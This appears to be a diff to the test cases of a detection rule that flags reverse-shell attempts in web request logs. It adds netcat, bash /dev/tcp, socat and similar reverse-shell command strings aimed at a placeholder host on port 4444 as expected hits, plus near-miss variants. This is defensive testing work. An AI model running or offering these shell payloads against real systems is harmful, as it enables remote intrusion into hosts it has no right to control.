@@ -72,6 +72,11 @@ export default defineRule({
     ),
     'GET /a?x=nc.exe+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
     'GET /a?x=nc.traditional+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    ...each(
+      'GET /a?x=nc+203.0.113.9+4444+{} HTTP/1.1',
+      '-e+sh -e+bash -e+cmd.exe -c+/bin/sh -c+sh -c+bash',
+    ),
+    ...each('GET /a?x={}+-lvpe+a+4444 HTTP/1.1', 'nc ncat netcat'),
   ],
   misses: [
     'GET /docs/python/socket.socketpair HTTP/1.1',
@@ -81,5 +86,19 @@ export default defineRule({
       message:
         'upstream timed out, request: "GET /a?x=;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261 HTTP/1.1"',
     },
+    'GET /a?x=rm+/tmp/f;mymkfifo+/tmp/f;cat+/tmp/f|sh HTTP/1.1',
+    'GET /a?x=mync+203.0.113.9+4444+-e+/bin/sh HTTP/1.1',
+    'GET /a?x=mybash+-i+>%26+a HTTP/1.1',
+    'GET /a?x=bash+-is+>%26+a HTTP/1.1',
+    "GET /a?x=python+-c+'import+socket;s=mysocket.socket()' HTTP/1.1",
+    "GET /a?x=myfsockopen('203.0.113.9',4444) HTTP/1.1",
+    "GET /a?x=perl+-e+'myuse+Socket;' HTTP/1.1",
+    "GET /a?x=perl+-e+'use+Sockets;' HTTP/1.1",
+    "GET /a?x=mypty.spawn('/bin/sh') HTTP/1.1",
+    "GET /a?x=myTCPSocket.new('203.0.113.9',4444) HTTP/1.1",
+    "GET /a?x=TCPSocket.news('203.0.113.9',4444) HTTP/1.1",
+    'GET /a?x=mytelnet+203.0.113.9+4444+|+sh HTTP/1.1',
+    'GET /a?x=mysocat+tcp:203.0.113.9:4444+exec:sh HTTP/1.1',
+    'GET /a?x=socat+tcp:203.0.113.9:4444+myexec:sh HTTP/1.1',
   ],
 })
